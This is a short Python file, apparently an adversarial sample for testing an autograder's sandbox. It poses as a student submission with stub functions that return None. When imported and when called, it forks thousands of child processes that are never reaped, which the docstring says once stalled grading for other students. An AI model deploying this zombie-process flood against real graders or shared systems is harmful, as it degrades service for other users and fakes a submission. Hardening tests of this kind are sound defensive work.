"""Attack: thousands of children that exit and are never reaped. Held until the grader exits,
each zombie once cost every later sweep of orphans a full look at /proc, so that the grading
of the students after this one stalled."""

import os

KNOWN = {}  # filled in by the self-test


def leave_zombies(count):
    for _ in range(count):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            return


leave_zombies(1500)


def make_windows(series, time_steps):
    leave_zombies(500)
    return None, None


def build_many_to_one(time_steps, features, units=50):
    return None
